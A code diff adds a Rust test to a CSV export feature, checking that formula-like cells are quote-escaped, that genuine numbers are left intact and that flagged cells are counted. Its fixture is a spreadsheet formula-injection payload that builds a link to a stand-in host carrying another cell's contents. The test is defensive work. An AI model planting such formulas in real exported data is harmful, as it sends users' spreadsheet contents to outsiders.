@@ -82,3 +82,20 @@ async fn what_a_terminal_would_obey_is_taken_out() {
         );
     }
 }
+
+/// A spreadsheet runs what looks like a formula, and a stranger may have typed one into a form.
+#[tokio::test]
+async fn csv_is_safe_to_open_and_numbers_stay() {
+    let account = account(Api::Document, 5).await;
+    let state = tempfile::tempdir().unwrap();
+    let formula = "=HYPERLINK(\"https://x.example?\"&A1)";
+    account.add("contacts", json!({"firstName": formula, "lastName": "X", "email": "r@x.example"})).await;
+    let sql = "select firstName, -5 as n, '-5' as t, '+15550100' as phone, '-1.5e3' as e, ' @x' as \"=h\", '－1+1' as w
+               from contacts where lastName = 'X'";
+    let ran = ran(&account, state.path(), &["query", sql, "--format", "csv"]).await;
+    let mut lines = csv::Reader::from_reader(ran.stdout.as_bytes());
+    assert_eq!(lines.headers().unwrap(), vec!["firstName", "n", "t", "phone", "e", "'=h", "w"]);
+    let row = lines.records().next().unwrap().unwrap();
+    assert_eq!(row, vec![&*format!("'{formula}"), "-5", "-5", "+15550100", "-1.5e3", "' @x", "'－1+1"]);
+    assert!(ran.stderr.contains("4 cells look like formulas"), "{}", ran.stderr);
+}
